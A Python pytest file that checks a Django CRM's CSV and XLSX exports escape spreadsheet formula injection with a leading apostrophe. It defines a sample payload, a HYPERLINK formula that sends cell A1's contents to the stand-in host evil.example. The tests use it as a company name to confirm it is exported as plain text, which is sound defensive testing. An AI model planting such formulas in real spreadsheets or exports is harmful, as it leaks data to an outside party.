"""Exports neutralise formula injection (OWASP): text a spreadsheet would read as a formula is
written as text, through the one writer every CSV and XLSX export uses."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from crm.services import do_create_company
from crm.spreadsheets import table_csv, table_xlsx
from tests.conftest import CVRS

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik her")'


@pytest.fixture
def company(world):
    """The company the shared ``referral`` fixture refers, with a name that is a formula."""
    return do_create_company(world.consultant, cvr=CVRS[0], name=FORMULA, municipality=world.home)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def xlsx_cells(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_a_company_named_as_a_formula_exports_as_text(world, referral):
    client = world.client_for(world.consultant)

    as_csv = client.get(reverse("export-referrals", args=["csv"])).content
    as_xlsx = client.get(reverse("export-referrals", args=["xlsx"])).content

    assert csv_rows(as_csv)[1][-1] == "'" + FORMULA
    assert xlsx_cells(as_xlsx)[1][-1] == ("'" + FORMULA, "s")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_an_apostrophe(start):
    text = f"{start}1+1"

    assert csv_rows(table_csv(["a"], [[text]]))[1] == [f"'{text}"]
    [(value, kind)] = xlsx_cells(table_xlsx(["a"], [[text]], "t"))[1]
    assert (value[0], value[2:], kind) == ("'", "1+1", "s")  # XML reads a CR back as LF


def test_numbers_dates_and_plain_text_stay_as_they_are():
    row = [-12, -3.5, 0, datetime.date(2026, 3, 2), "Østergaard Smedie ApS", "", None]

    cells = xlsx_cells(table_xlsx(["a"] * 7, [row], "t"))[1]

    assert [value for value, _ in cells[:3]] == [-12, -3.5, 0]
    assert [kind for _, kind in cells[:3]] == ["n", "n", "n"]
    assert cells[3][0].date() == datetime.date(2026, 3, 2)
    assert cells[4] == ("Østergaard Smedie ApS", "s")
    assert csv_rows(table_csv(["a"] * 7, [row]))[1][:4] == ["-12", "-3,5", "0", "02.03.2026"]


def test_a_header_starting_like_a_formula_is_text_too():
    assert csv_rows(table_csv(["-afvigelse"], []))[0] == ["'-afvigelse"]
